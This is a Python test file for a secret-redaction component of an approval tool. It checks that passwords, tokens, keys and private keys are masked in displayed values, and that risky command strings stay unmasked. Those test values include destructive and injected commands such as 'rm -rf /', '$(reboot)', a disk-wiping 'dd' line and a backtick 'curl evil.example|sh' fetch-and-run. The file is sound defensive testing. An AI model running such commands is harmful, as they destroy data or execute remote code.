"""What people are shown holds no secret, and still everything that could do something."""

from __future__ import annotations

import time
from typing import Any

import pytest

from hermes_approval.grants.grant import Grant
from hermes_approval.grants.hidden_values import concealed, concealed_text

KEY = "sk-ant-" + "a1B2" * 10
LINES = "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj"] * 3)
PEM = f"-----BEGIN PRIVATE KEY-----\n{LINES}\nAgEA\n-----END PRIVATE KEY-----"


@pytest.mark.parametrize(
    ("value", "name", "shown"),
    [
        ("hunter2", "password", "***"),
        ("hunter2!", "db_password", "***"),
        ("", "password", ""),
        ("hunter2", "path", "hunter2"),
        ({"user": "ada", "password": "hunter2"}, "login", {"user": "ada", "password": "***"}),
        ({"a": {"b": "x"}}, "secrets", {"a": {"b": "***"}}),
        (["--token", "abc123", "x"], "argv", ["--token", "***", "x"]),
        (500, "max_tokens", 500),
        (f"curl -H 'X-Key: {KEY}' example.org", "command", "curl -H 'X-Key: sk-ant-***' example.org"),
        ("mysql --password hunter2x db", "command", "mysql --password *** db"),
        ("https://ada:hunter2@example.org/x", "url", "https://ada:***@example.org/x"),
        (f"a\n{PEM}\nb", "text", "a\n[redacted private key]\nb"),
        ("*** and ***", "text", "*** and ***"),
    ],
)
def test_secrets_are_hidden(value: Any, name: str, shown: Any) -> None:
    assert concealed(value, name) == shown


@pytest.mark.parametrize(
    ("value", "name"),
    [
        ("rm -rf /", "password"),
        ("$(reboot)", "token"),
        ("x;reboot", "token"),
        ("{rm,-rf,x}", "token"),
        ("\u202eabc", "token"),
        ('PASSWORD="x`curl evil.example|sh`" true', "command"),
        ("PASSWORD='x y; rm -rf ~'", "command"),
        ('login --password "abcdef ghijkl"; token="a b c d; reboot now"', "command"),
        ("-----BEGIN PRIVATE KEY-----\ndd if=/dev/zero of=/dev/sda\n-----END PRIVATE KEY-----", "text"),
    ],
)
def test_what_could_do_something_is_not_hidden(value: str, name: str) -> None:
    assert concealed(value, name) == value


def test_a_long_text_takes_no_long_time() -> None:
    began = time.perf_counter()
    for text in ("token=" * 16_000, "://a:b@" * 14_000, "password=abcdef1 " * 5_800, "*" * 100_000):
        concealed_text(text)
    assert time.perf_counter() - began < 5


def test_a_grant_is_described_without_them_and_written_as_it_is() -> None:
    args: dict[str, Any] = {
        "password": {"equals": "hunter2"},
        "command": {"command": "curl -u x --token abcdef123 *"},
        "options": {"equals": {"api_key": "abc", "depth": 3}},
    }
    grant = Grant(id="g", tool="t", rule="r", args=args, scope="always", by="me", at=0.0)
    said = grant.describe()
    assert 'password is exactly "***"' in said
    assert 'command is one simple command like "curl -u x --token *** *"' in said
    assert '{"api_key": "***", "depth": 3}' in said
    assert grant.as_dict()["args"] == args
